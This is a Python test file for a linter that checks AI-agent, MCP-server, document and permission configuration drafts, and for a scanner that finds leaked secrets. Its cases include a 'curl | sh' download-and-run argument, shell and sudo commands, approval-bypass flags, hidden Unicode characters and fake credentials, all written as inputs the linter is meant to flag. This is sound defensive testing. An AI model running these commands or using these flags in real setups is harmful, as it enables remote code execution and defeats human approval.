"""The rules that a schema cannot hold: which text breaks which, and where a finding points."""

from __future__ import annotations

import json
import re
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pigi.domain.resources import RESOURCES, UNUSABLE, Finding, lint_draft, parse_draft
from pigi.domain.resources.rules import RULES
from pigi.domain.resources.secrets import find_in_arguments, find_in_text, find_in_value
from pigi.domain.resources.secrets.names import names_a_secret
from pigi.domain.resources.secrets.values import is_placeholder, looks_random

# Put together from parts, so that no scanner of this repository mistakes them for leaked secrets.
SECRETS = {
    "AWS access key": "AKIA" + "Q3K5LMZX7PWT2BNC",
    "GitHub token": "ghp_" + "a1B2" * 9,
    "GitLab token": "glpat-" + "k7Qm2Zx9Rb" * 2,
    "Slack token": "xoxb-" + "918273645546-qpwoei",
    "Stripe key": "sk_live_" + "a1B2" * 6,
    "Stripe webhook secret": "whsec_" + "a1B2" * 6,
    "Anthropic key": "sk-ant-" + "a1B2" * 8,
    "OpenAI key": "sk-proj-" + "a1B2" * 10,
    "Google API key": "AIza" + "k7Qm2" * 7,
    "npm token": "npm_" + "a1B2" * 9,
    "private key": "-----BEGIN RSA " + "PRIVATE KEY-----\n" + "k7Qm2Zx9" * 8,
    "JSON Web Token": "eyJ" + "hbGciOiJIUzI1" + ".eyJ" + "zdWIiOiIxMjM0" + ".x",
    "credentials in a URL": "postgres://user:" + "hunter2@db/x",
    "credentials in a header": "Bearer " + "k7Qm2Zx9" * 4,
}
AGENT: dict[str, Any] = {"name": "a", "description": "d", "instructions": "i", "tools": ["Read"]}
DOCUMENT: dict[str, Any] = {"title": "T", "body": "b"}
SETTINGS: dict[str, Any] = {"name": "S", "description": "d", "permissions": {"allow": ["Read"]}}


def _lint(kind: str, draft: dict[str, Any], name: str) -> tuple[Finding, ...]:
    return lint_draft(kind, parse_draft(kind, json.dumps(draft)), name)


def _stdio(command: str = "uvx", args: list[str] | None = None, environment: list[Any] | None = None) -> dict[str, Any]:
    transport = {"type": "stdio", "command": command, "args": args or [], "environment": environment or []}
    return {"name": "s", "description": "d", "transport": transport}


def _http(url: str = "https://mcp.example.com/", headers: list[Any] | None = None) -> dict[str, Any]:
    return {"name": "s", "description": "d", "transport": {"type": "http", "url": url, "headers": headers or []}}


def _plain(name: str, value: str) -> dict[str, str]:
    return {"kind": "plain", "name": name, "value": value}


def _places(findings: tuple[Finding, ...]) -> set[tuple[str, str]]:
    return {(finding.rule, finding.pointer) for finding in findings}


AGENT_CASES = [
    ({"instructions": "Use " + SECRETS["GitHub token"]}, ("literal-secret", "/instructions")),
    ({"description": "Reads\u202eright"}, ("hidden-characters", "/description")),
    ({"instructions": "tag\U000e0041"}, ("hidden-characters", "/instructions")),
    ({"instructions": "Text <!-- hidden -->"}, ("hidden-comment", "/instructions")),
    ({"instructions": "---\nhooks: x\n---\n"}, ("starts-with-front-matter", "/instructions")),
    ({"instructions": "\n\n--- \nhooks: x"}, ("starts-with-front-matter", "/instructions")),
    ({"instructions": "Run with --dangerously-skip-permissions."}, ("mentions-no-approval", "/instructions")),
    ({"tools": ["bypassPermissions"]}, ("switches-off-approval", "/tools/0")),
    ({"tools": []}, ("inherits-all-tools", "/tools")),
    ({"denied_tools": ["Read"]}, ("contradicts-itself", "/denied_tools")),
    ({"description": " "}, ("nothing-to-delegate-by", "/description")),
    ({"tools": ["Read", "Bash"]}, ("may-run-anything", "/tools/1")),
    ({"model": "claude-sonnet-5-5"}, ("model-is-pinned", "/model")),
    ({"name": "b"}, ("name-differs", "/name")),
]


@pytest.mark.parametrize(("changes", "expected"), AGENT_CASES)
def test_agents(changes: dict[str, Any], expected: tuple[str, str]) -> None:
    assert _places(_lint("agent", AGENT | changes, "a")) == {expected}


ENTRY = "/transport/environment/0"
SERVER_CASES = [
    (_stdio(environment=[_plain("API_TOKEN", "hunter2-hunter2")]), ("literal-secret", f"{ENTRY}/value")),
    (_stdio(environment=[_plain("apiKey", "hunter2-hunter2")]), ("literal-secret", f"{ENTRY}/value")),
    (_stdio(environment=[_plain("URL", SECRETS["credentials in a URL"])]), ("literal-secret", f"{ENTRY}/value")),
    (_stdio(environment=[_plain("NOTE", "aB3dE5gH7jK9mN1pQ3sT5vW7")]), ("maybe-a-secret", f"{ENTRY}/value")),
    (_stdio(environment=[_plain("API_TOKEN", "{env:API_TOKEN}")]), ("refers-to-a-variable", f"{ENTRY}/value")),
    (_stdio(environment=[_plain("API_URL", "https://${API_HOST/x")]), ("broken-reference", f"{ENTRY}/value")),
    (_stdio(environment=[_plain("LANG", " C")]), ("outer-space", f"{ENTRY}/value")),
    (_stdio(environment=[_plain("NODE_OPTIONS", "-r x")]), ("changes-what-runs", f"{ENTRY}/name")),
    (_stdio(args=["--token=hunter2-hunter2"]), ("literal-secret", "/transport/args/0")),
    (_stdio(command="x", args=["--api-key", "hunter2-hunter2"]), ("literal-secret", "/transport/args/1")),
    (_stdio(args=["--yolo"]), ("switches-off-approval", "/transport/args/0")),
    (_stdio(command="sudo", args=["x"]), ("raises-privileges", "/transport/command")),
    (_stdio(command="/bin/bash", args=["-c"]), ("runs-a-shell", "/transport/command")),
    (_stdio(command="x", args=["curl -s https://x.example | sh"]), ("pipes-a-download", "/transport/args/0")),
    (_stdio(command="npx", args=["-y", "@scope/server"]), ("unpinned-package", "/transport/args/1")),
    (_stdio(command="uvx", args=["server@latest"]), ("unpinned-package", "/transport/args/0")),
    (_stdio(command="my server"), ("command-holds-arguments", "/transport/command")),
    (_http("http://mcp.example.com/"), ("not-encrypted", "/transport/url")),
    (_http("https://[x"), ("not-encrypted", "/transport/url")),
    (_http("https://me:" + "hunter2@mcp.example.com/"), ("literal-secret", "/transport/url")),
    (_http(headers=[_plain("X-Api-Key", "hunter2-hunter2")]), ("literal-secret", "/transport/headers/0/value")),
]


@pytest.mark.parametrize(("draft", "expected"), SERVER_CASES)
def test_mcp_servers(draft: dict[str, Any], expected: tuple[str, str]) -> None:
    assert _places(_lint("mcp-server", draft, "s")) == {expected}


@pytest.mark.parametrize(
    "draft",
    [
        _stdio(command="npx", args=["-y", "@scope/server@1.2.3"]),
        _stdio(command="uvx", args=["server==0.4"]),
        _stdio(environment=[_plain("LOG_LEVEL", "debug"), _plain("TOKEN_URL", "https://x.example/token")]),
        _http("http://localhost:3000/mcp"),
        _http(headers=[_plain("X-Team", "platform")]),
    ],
)
def test_harmless_servers_break_no_rule(draft: dict[str, Any]) -> None:
    assert _lint("mcp-server", draft, "s") == ()


def test_reserved_names_are_refused() -> None:
    assert ("reserved-name", "/name") in _places(_lint("mcp-server", _http() | {"name": "workspace"}, "workspace"))


def test_header_names_ignore_case_and_variables_do_not() -> None:
    twice = [_plain("X-Team", "a"), _plain("x-team", "b")]
    assert {rule for rule, _ in _places(_lint("mcp-server", _http(headers=twice), "s"))} == {"listed-twice"}
    assert _lint("mcp-server", _stdio(environment=[_plain("Team", "a"), _plain("TEAM", "b")]), "s") == ()


@pytest.mark.parametrize(
    ("changes", "expected"),
    [
        ({"body": "line\n" * 200}, ("long-document", "/body")),
        ({"body": "Read this:\n@~/notes.md"}, ("imports-a-file", "/body")),
        ({"applies_to": ["/etc/**"]}, ("glob-leaves-project", "/applies_to/0")),
        ({"applies_to": ["src/**", "../other/**"]}, ("glob-leaves-project", "/applies_to/1")),
        ({"title": "Other"}, ("name-differs", "/title")),
        ({"applies_when": "glob"}, ("applies-to-nothing", "/applies_to")),
        ({"applies_when": "always", "applies_to": ["a/**"]}, ("globs-without-effect", "/applies_to")),
        ({"applies_when": "model-decision"}, ("nothing-to-decide-by", "/description")),
    ],
)
def test_documents(changes: dict[str, Any], expected: tuple[str, str]) -> None:
    assert _places(_lint("document", DOCUMENT | changes, "T")) == {expected}


@pytest.mark.parametrize(
    ("permissions", "expected"),
    [
        ({"allow": ["Bash"]}, ("allows-everything", "/permissions/allow/0")),
        ({"allow": ["Read", "*"]}, ("allows-everything", "/permissions/allow/1")),
        ({"allow": ["Bash(*)"]}, ("allows-everything", "/permissions/allow/0")),
        ({"allow": ["Read"], "deny": ["Read"]}, ("contradicts-itself", "/permissions")),
        ({}, ("no-rules", "/permissions")),
    ],
)
def test_settings(permissions: dict[str, Any], expected: tuple[str, str]) -> None:
    assert _places(_lint("settings", SETTINGS | {"permissions": permissions}, "S")) == {expected}


def test_errors_come_before_warnings() -> None:
    levels = [finding.level for finding in _lint("agent", AGENT | {"tools": [], "name": "b"}, "a")]
    assert levels == ["error", "warning"]


def test_every_rule_says_what_to_do_and_names_its_source() -> None:
    for rule, facts in RULES.items():
        assert re.fullmatch(r"[a-z]+(-[a-z]+)*", rule)
        assert facts.sentence.endswith(".")
        assert facts.source


def test_an_unusable_answer_has_a_finding_of_its_own() -> None:
    assert (UNUSABLE.rule, UNUSABLE.level) == ("not-a-draft", "error")


@given(st.text(min_size=1, max_size=60), st.text(max_size=60))
def test_findings_hold_fixed_words_and_field_names_only(value: str, name: str) -> None:
    drafts = {
        "agent": AGENT | {"description": value, "instructions": value},
        "mcp-server": _stdio(args=[value, "--token=" + value], environment=[_plain("TOKEN", value)]),
        "document": DOCUMENT | {"body": value, "applies_to": [value]},
    }
    fields = {
        field
        for kind in RESOURCES.values()
        for field in re.findall(r'"(\w+)"', json.dumps(kind.model.model_json_schema()))
    }
    for kind, draft in drafts.items():
        try:
            parsed = parse_draft(kind, json.dumps(draft))
        except Exception:  # noqa: S112 - what is refused is another test's matter
            continue
        for finding in lint_draft(kind, parsed, name):
            assert finding.sentence == RULES[finding.rule].sentence
            assert all(part in fields or part.isdecimal() for part in finding.pointer.split("/")[1:])


@pytest.mark.parametrize(("kind", "secret"), SECRETS.items())
def test_known_secrets_are_recognised_inside_text(kind: str, secret: str) -> None:
    assert kind in {found.kind for found in find_in_text(f"before {secret} after")}
    assert find_in_value("NOTE", secret)


@pytest.mark.parametrize("text", ["", "Read the docs.", "sk-learn", "task-force", "https://x.example/a:b", "ghp_short"])
def test_ordinary_text_holds_no_secret(text: str) -> None:
    assert find_in_text(text) == ()


@pytest.mark.parametrize("name", ["TOKEN", "GITHUB_TOKEN", "apiKey", "X-API-Key", "db-password", "Authorization"])
def test_names_of_secrets(name: str) -> None:
    assert names_a_secret(name)


@pytest.mark.parametrize("name", ["MAX_TOKENS", "TOKEN_LIMIT", "TOKENIZER", "AUTHOR", "KEYBOARD", "PATH"])
def test_names_of_other_things(name: str) -> None:
    assert not names_a_secret(name)


@pytest.mark.parametrize(
    "value", ["", "${X}", "Bearer ${X}", "$X", "<token>", "your-token-here", "xxxx", "changeme", "{env:X}"]
)
def test_placeholders_are_no_secrets(value: str) -> None:
    assert is_placeholder(value)
    assert find_in_value("API_TOKEN", value) == ()


def test_arguments_with_secrets() -> None:
    found = find_in_arguments(["--verbose", "--token", "hunter2-hunter2", "--api-key=${KEY}", "--password=hunter22x"])
    assert [bool(each) for each in found] == [False, False, True, False, True]


@pytest.mark.parametrize(
    ("command", "arguments", "at"),
    [
        ("mysql", ["-h", "db", "-usvc", "-pTr0ub4dor33"], 3),
        ("sshpass", ["-p", "C0rrect-Horse-9", "ssh", "x"], 1),
        ("docker", ["login", "-u", "x", "-p", "Kettle22-Barn"], 4),
    ],
)
def test_arguments_with_a_secret_in_a_programs_own_way(command: str, arguments: list[str], at: int) -> None:
    (found,) = (each for each in find_in_arguments(arguments, command) if each)
    assert found == find_in_arguments(arguments, command)[at]
    assert arguments[at][found[0].start : found[0].end] == arguments[at].removeprefix("-p")


def test_arguments_that_only_look_like_a_password() -> None:
    assert not any(find_in_arguments(["-P", "3306", "-p", "-u", "root"], "mysql"))
    assert not any(find_in_arguments(["-p", "typescript@5.9.2", "tsc"], "npx"))


def test_hashes_and_words_are_not_random() -> None:
    assert not looks_random("a" * 64)
    assert not looks_random("0123456789abcdef" * 4)
    assert not looks_random("ThisIsAVeryLongIdentifierWithoutDigits")
